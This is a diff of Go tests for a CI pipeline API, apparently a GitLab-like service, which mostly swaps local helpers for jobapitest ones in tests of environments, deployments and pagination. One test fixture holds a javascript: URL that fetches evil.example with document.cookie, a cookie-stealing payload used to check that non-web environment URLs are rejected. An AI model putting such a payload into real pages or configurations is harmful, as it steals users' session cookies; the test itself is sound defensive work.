@@ -42,7 +42,7 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 	var proj api.Project
 	inst.MustDo(t, http.StatusCreated, "POST", "/api/v4/projects", map[string]any{"name": "app", "default_branch": "main"}, &proj)
 	resp, b := inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
-	wantStatus(t, resp, b, http.StatusCreated)
+	jobapitest.WantStatus(t, resp, b, http.StatusCreated)
 	p := decode[api.Pipeline](t, b)
 
 	r := inst.NewRunner(t)
@@ -107,7 +107,7 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 
 	// A new deploy of the same environment makes it available again; pages hold one each.
 	resp, b = inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
-	wantStatus(t, resp, b, http.StatusCreated)
+	jobapitest.WantStatus(t, resp, b, http.StatusCreated)
 	again := r.TakeNamed(t, "deploy_review")
 	r.Finish(t, again, runnerclient.StateSuccess, "")
 	if got := getEnvironment(t, inst, proj.ID, envs[0].ID); got.State != "available" || got.LastDeployment == nil || got.LastDeployment.Deployable.ID != again.ID {
@@ -117,7 +117,7 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 		t.Errorf("%d environments, want the one: a name is unique per project", n)
 	}
 	resp, b = inst.Do(t, "GET", projectPath(proj.ID)+"/deployments?page=2&per_page=2", nil)
-	wantStatus(t, resp, b, http.StatusOK)
+	jobapitest.WantStatus(t, resp, b, http.StatusOK)
 	page := decode[[]api.Deployment](t, b)
 	if len(page) != 1 || page[0].Deployable.ID != again.ID || resp.Header.Get("X-Total") != "3" ||
 		resp.Header.Get("X-Total-Pages") != "2" || resp.Header.Get("X-Page") != "2" || resp.Header.Get("X-Next-Page") != "" {
@@ -129,7 +129,7 @@ func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
 		t.Errorf("another project lists %d environments", n)
 	}
 	resp, b = inst.Do(t, "GET", fmt.Sprintf("%s/environments/%d", projectPath(proj.ID+1), envs[0].ID), nil)
-	wantJSONError(t, resp, b, http.StatusNotFound)
+	jobapitest.WantJSONError(t, resp, b, http.StatusNotFound)
 }
 
 func listEnvironments(t *testing.T, inst *jobapitest.Instance, pid int64) []api.Environment {
@@ -166,7 +166,7 @@ func TestEnvironmentBadInput(t *testing.T) {
 			`jobs:deploy:environment:name expands to "", which is empty (line 3)`},
 	} {
 		resp, b := inst.Do(t, "POST", projectPath(7)+"/pipeline?ref=main", c.yaml, "Content-Type", "application/yaml")
-		if msg := wantJSONError(t, resp, b, http.StatusBadRequest); !strings.Contains(msg, c.want) {
+		if msg := jobapitest.WantJSONError(t, resp, b, http.StatusBadRequest); !strings.Contains(msg, c.want) {
 			t.Errorf("%s: message %q, want %q", name, msg, c.want)
 		}
 	}
@@ -195,7 +195,7 @@ func TestEnvironmentURLMustBeWeb(t *testing.T) {
 	src := "variables:\n  LINK: 'javascript:fetch(\"//evil.example/\"+document.cookie)'\n" +
 		"deploy:\n  script: ./deploy.sh\n  environment:\n    name: production\n    url: $LINK\n"
 	resp, b := inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "main", "ci_config": src})
-	wantStatus(t, resp, b, http.StatusBadRequest)
+	jobapitest.WantStatus(t, resp, b, http.StatusBadRequest)
 	if msg := decode[api.Error](t, b).Message; !strings.Contains(msg, "jobs:deploy:environment:url") || !strings.Contains(msg, "http or https") {
 		t.Fatalf("message %q, want it to name jobs:deploy:environment:url and say http or https", msg)
 	}
